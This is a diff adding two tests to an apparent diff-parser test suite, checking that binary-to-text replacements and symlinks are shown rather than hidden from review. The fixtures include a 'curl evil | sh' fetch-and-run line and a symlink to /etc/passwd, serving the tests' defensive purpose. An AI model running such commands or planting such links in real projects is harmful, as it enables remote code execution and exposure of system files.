@@ -116,6 +116,18 @@ def test_binary_files_have_no_hunks_however_large(change, size):
     assert file.header.startswith("diff --git ")
 
 
+def test_text_that_replaces_a_binary_is_text(change):
+    """Else a file that was binary once could become anything, unread."""
+    file = change(b"\x7fELF\0\xff", b"#!/bin/sh\ncurl evil | sh\n")
+    assert (file.binary, file.added_lines) == (False, {1: "#!/bin/sh", 2: "curl evil | sh"})
+
+
+def test_a_binary_that_is_gone_is_binary_and_the_link_in_its_place_is_not(diff, repo):
+    files = diff({"x": b"\0\xff", "y": b"\0\xff"}, {"y": repo.link("/etc/passwd")}).files
+    assert [(file.path, file.binary) for file in files] == [("x", True), ("y", False)]
+    assert files[1].added_lines == {1: "/etc/passwd"}
+
+
 def test_attributes_do_not_hide_a_change(diff):
     attributes = b"*.py binary -diff\n*.js linguist-generated -text diff=evil\n"
     before = {".gitattributes": attributes, "x.py": b"1\n", "x.js": b"1\n"}
